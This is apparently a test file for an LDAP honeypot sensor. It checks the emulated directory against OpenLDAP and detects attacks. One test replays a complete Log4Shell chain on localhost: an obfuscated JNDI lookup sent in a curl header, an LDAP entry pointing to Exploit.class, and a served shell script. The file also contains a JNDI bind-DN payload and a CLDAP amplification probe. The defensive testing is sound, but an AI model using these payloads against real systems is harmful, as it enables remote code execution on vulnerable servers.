"""OpenLDAP's own tools at the directory, and OpenLDAP's own server, holding the same entries, as the judge of it."""

from __future__ import annotations

import asyncio
import subprocess
from pathlib import Path

from eudaemon.payload.fetch.policy import FetchSettings
from eudaemon.protocols.ldap.directory import directory_of
from eudaemon.world.host import Host
from eudaemon.world.seed import Seed
from payload.directory import ROOT, slapd
from payload.servers import serving, tool
from payload.test_fetch_jndi import REFERENCE, a_class
from sensor.harness import SEED, events, running

SEARCHES = (
    ("-s", "base", "(objectClass=*)"),
    ("-s", "one", "(objectClass=*)"),
    ("(uid=*)", "uid", "cn", "mail"),
    ("(&(objectClass=posixAccount)(|(uid=a*)(cn=*er)(sn=*a*s*)))",),
    ("(!(objectClass=posixAccount))", "1.1"),
    ("(!(nonsense=x))", "dn"),
    ("(|(nonsense=x)(cn=ADMIN))", "CN", "description"),
    ("(userPassword=*)",),
    ("(!(userPassword=*))", "dn"),
    ("(!(telephoneNumber=*))", "dn"),
    ("(uidNumber>=1003)", "uidNumber"),
    ("(&(uidNumber<=1002)(!(uidNumber=1001)))", "uid"),
    ("(cn>=a)", "dn"),
    ("(mail~=x)", "dn"),
    ("(memberUid=*)", "memberUid"),
    ("(loginShell=/BIN/BASH)", "dn"),
    ("-b", "ou=nowhere,{suffix}"),
    ("-b", " CN=Admin , {suffix}", "cn"),
    ("-A", "(cn=admin)"),
    ("-z", "2", "(objectClass=*)"),
    ("-E", "pr=4/noprompt", "(objectClass=*)"),
)


async def test_log4shell_all_the_way(tmp_path: Path) -> None:
    """From a header of curl's to the directory, the class it names, and the script that the class would run."""
    curl = tool("curl", "curl")
    asked: list[bytes] = []

    async def codebase(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        asked.append((await reader.readuntil(b"\r\n\r\n")).partition(b"\r\n")[0])
        port = writer.get_extra_info("sockname")[1]
        body = a_class(port) if b".class " in asked[-1] else b"#!/bin/sh\nid\n"
        writer.write(b"HTTP/1.1 200 OK\r\nContent-Length: %d\r\n\r\n" % len(body) + body)

    lab = FetchSettings(lab_networks=("127.0.0.0/8",))
    async with serving(codebase) as web, running(tmp_path, "http", fetch=lab) as net:
        entry = REFERENCE.format(name="o", more=f"javaCodeBase: http://127.0.0.1:{web}/\njavaFactory: Exploit\n")
        async with slapd(tmp_path, ROOT + entry) as directory:
            lookup = f"${{${{env:X:-j}}ndi:ldap://127.0.0.1:{directory}/cn=o,dc=lab}}"
            process = await asyncio.create_subprocess_exec(
                curl, "-s", "-H", f"X-Api-Version: {lookup}", f"http://127.0.0.1:{net.port}/", stdout=subprocess.DEVNULL
            )
            await process.wait()
            await net.until("download.finished", count=3)
    assert asked == [b"GET /Exploit.class HTTP/1.1", b"GET /next.sh HTTP/1.1"]
    kept = [(event.fact.origin, event.fact.url.rpartition("/")[2]) for event in events(tmp_path, "artefact.kept")]  # type: ignore[attr-defined]
    assert [url for origin, url in kept if origin == "download"] == ["cn=o,dc=lab", "Exploit.class", "next.sh"]


async def test_it_answers_as_openldap_does(tmp_path: Path) -> None:
    ldapsearch, whoami = (tool(name, "ldap-utils") for name in ("ldapsearch", "ldapwhoami"))

    async def said(*command: str) -> list[str]:
        process = await asyncio.create_subprocess_exec(
            *command, stdout=asyncio.subprocess.PIPE, stderr=asyncio.subprocess.STDOUT
        )
        lines = (await process.communicate())[0].decode().splitlines()
        return [f"ends with {process.returncode}", *sorted(line for line in lines if not line.startswith("#"))]

    async with running(tmp_path, "ldap") as net:
        directory = directory_of(Host.from_seed(Seed(SEED)))
        async with slapd(tmp_path, directory.ldif(), directory.suffix) as judge:
            names: list[str] = []
            for search in SEARCHES:
                words = [word.format(suffix=directory.suffix) for word in search]
                base = [] if "-b" in words else ["-b", directory.suffix]
                ours, theirs = await asyncio.gather(*(
                    said(ldapsearch, "-xLLL", "-o", "ldif-wrap=no", "-H", f"ldap://127.0.0.1:{port}", *base, *words)
                    for port in (net.port, judge)
                ))  # fmt: skip
                assert ours == theirs, search
                names += [line for line in theirs if line.startswith("dn:")]
            assert len(names) > 40, "there was something to compare"
        root = await said(ldapsearch, "-x", "-LLL", "-H", f"ldap://127.0.0.1:{net.port}", "-s", "base", "-b", "", "+")
        assert f"namingContexts: {directory.suffix}" in root
        assert "anonymous" in (await said(whoami, "-x", "-H", f"ldap://127.0.0.1:{net.port}"))[1]
        refused = await said(whoami, "-x", "-D", "cn=${jndi:ldap://127.0.0.1/x}", "-w", "geheim", "-H",
                             f"ldap://127.0.0.1:{net.port}")  # fmt: skip
        assert "ldap_bind: Invalid credentials (49)" in refused
    tried = [event.fact for event in events(tmp_path, "login.tried")]
    assert [(fact.user, fact.password) for fact in tried] == [("cn=${jndi:ldap://127.0.0.1/x}", "geheim")]  # type: ignore[attr-defined]
    (found,) = (event.fact for event in events(tmp_path, "exploit.recognised"))
    assert found.command == "ldap://127.0.0.1/x"  # type: ignore[attr-defined]
    assert not events(tmp_path, "sensor.faulted", "peer.faulted")


async def test_starttls_and_datagrams(tmp_path: Path) -> None:
    """`ldapsearch -ZZ` insists on TLS; nmap asks for the root over UDP, and is told that the answer is too large."""
    ldapsearch, nmap = tool("ldapsearch", "ldap-utils"), tool("nmap", "nmap")

    async def said(*command: str) -> str:
        process = await asyncio.create_subprocess_exec(
            *command, stdout=asyncio.subprocess.PIPE, stderr=asyncio.subprocess.STDOUT,
            env={"LDAPTLS_REQCERT": "never", "PATH": "/usr/sbin:/usr/bin:/bin"},
        )  # fmt: skip
        return (await process.communicate())[0].decode()

    async with running(tmp_path, "ldap") as net:
        where = ("-x", "-LLL", "-H", f"ldap://127.0.0.1:{net.port}", "-D", "cn=admin", "-w", "geheim")
        assert "Invalid credentials (49)" in await said(ldapsearch, "-ZZ", *where)
        root = await said(ldapsearch, "-ZZ", *where[:4], "-s", "base", "-b", "", "+")
    assert "supportedExtension: 1.3.6.1.4.1.1466.20037" in root
    assert len(events(tmp_path, "tls.accepted")) == 2
    (tmp_path / "udp").mkdir()
    async with running(tmp_path / "udp", "ldap", transport="udp", limits_udp_idle_s_max=0.5) as net:
        await said(
            nmap,
            "-n",
            "-Pn",
            "-T5",
            "--max-retries",
            "0",
            "-sU",
            "-p",
            str(net.port),
            "--script",
            "+ldap-rootdse",
            "127.0.0.1",
        )
        closed = await net.until("session.closed")
    assert all(event.fact.bytes_out <= event.fact.bytes_in for event in closed)  # type: ignore[attr-defined]
    assert [event.fact.name for event in events(tmp_path / "udp", "exploit.recognised")] == ["cldap-amplification"]  # type: ignore[attr-defined]
    assert not [e for home in (tmp_path, tmp_path / "udp") for e in events(home, "sensor.faulted")]
